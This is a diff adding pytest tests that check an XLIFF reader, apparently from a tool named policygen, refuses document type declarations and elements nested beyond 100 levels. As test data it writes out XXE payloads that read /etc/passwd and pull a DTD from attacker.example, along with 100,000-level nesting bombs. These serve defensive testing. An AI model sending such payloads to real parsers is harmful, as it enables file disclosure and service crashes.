@@ -221,6 +221,59 @@ def test_an_xliff_file_with_a_document_type_is_refused() -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
+        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
+    ],
+)
+def test_an_xliff_file_naming_a_file_or_address_to_read_is_refused(doctype: str) -> None:
+    _, problems = read_xliff(f'<?xml version="1.0"?>\n{doctype}\n<xliff>&e;</xliff>\n', "ja.xlf")
+    assert [str(p) for p in problems] == [
+        "ja.xlf:2: error: this XLIFF file declares a document type: policygen reads XLIFF without one"
+    ]
+
+
+XLIFF_HEAD = (
+    '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="fr">\n'
+    '<file id="f1" original="en.md"><notes><note id="policy">p</note><note id="revision">r</note>'
+    '<note id="source-sha256">s</note><note id="sources">en.md</note></notes>\n'
+)
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "<group>" * 100_000 + "<unit/>" + "</group>" * 100_000,
+        '<unit name="k"><segment><source>x</source><target>'
+        + '<pc id="1">' * 100_000
+        + "y"
+        + "</pc>" * 100_000
+        + "</target></segment></unit>",
+        '<unit name="k"><notes><note category="previous-source">'
+        + "<mrk>" * 100_000
+        + "</mrk>" * 100_000
+        + "</note></notes></unit>",
+    ],
+)
+def test_an_xliff_file_nested_without_end_is_refused(unit: str) -> None:
+    # Before, 100,000 nested groups, placeholders or marks ended in a traceback (RecursionError).
+    _, problems = read_xliff(XLIFF_HEAD + unit + "</file></xliff>\n", "ja.xlf")
+    assert [str(p) for p in problems] == [
+        "ja.xlf:3: error: this XLIFF file nests its elements more than 100 levels deep: policygen reads files nested as it writes them"
+    ]
+
+
+def test_an_xliff_file_nested_as_deep_as_allowed_is_read() -> None:
+    unit = '<unit name="k"><segment><source>x</source><target>'
+    unit += '<pc id="1">' * 94 + "y" + "</pc>" * 94 + "</target></segment></unit>"
+    read, problems = read_xliff(XLIFF_HEAD + unit + "</file></xliff>\n", "ja.xlf")
+    assert problems == [] and read is not None
+    assert read.entries[0].translation == "<1>" * 94 + "y" + "</1>" * 94
+
+
 def test_xliff_that_is_not_xml_is_refused_at_its_line() -> None:
     _, problems = read_xliff('<?xml version="1.0"?>\n<xliff>\n<file>\n</xliff>\n', "ja.xlf")
     assert [str(p) for p in problems] == [
